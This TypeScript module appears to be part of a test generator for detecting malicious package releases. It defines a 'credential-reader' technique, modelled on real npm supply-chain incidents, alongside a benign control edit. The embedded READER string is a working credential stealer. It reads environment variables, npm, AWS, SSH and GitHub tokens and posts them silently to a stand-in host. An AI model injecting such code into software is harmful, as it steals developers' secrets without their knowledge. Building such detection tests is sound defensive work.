import { editFile, mainFile } from "../release.ts";
import type { Technique } from "../technique.ts";

const READER = `
;(function () {
  const fs = require("node:fs"), os = require("node:os"), path = require("node:path"), https = require("node:https");
  const names = [".npmrc", ".aws/credentials", ".ssh/id_rsa", ".config/gh/hosts.yml"];
  const found = { environment: process.env };
  for (const name of names)
    try { found[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch {}
  const request = https.request({ host: "metrics.example-collect.invalid", path: "/v1", method: "POST" });
  request.on("error", () => {});
  request.end(Buffer.from(JSON.stringify(found)).toString("base64"));
})();
`;

export const credentialReader: Technique = {
  id: "credential-reader",
  title: "Module that reads tokens and sends them",
  shape: "eslint-scope 3.7.2, 2018; Shai-Hulud, 2025; @ctrl/tinycolor, 2025 (StepSecurity)",
  kind: "electron",
  least: "high",
  attack: ({ after }) =>
    editFile(after, mainFile(after, "script"), (bytes) => Buffer.concat([bytes, Buffer.from(READER)])),
  twinTitle: "one more field in what the module counts",
  twin: ({ after }) =>
    editFile(after, mainFile(after, "script"), (bytes) =>
      Buffer.concat([
        bytes,
        Buffer.from("\n;function countRows(rows) {\n  return { rows: rows.length, at: Date.now() };\n}\n"),
      ]),
    ),
};
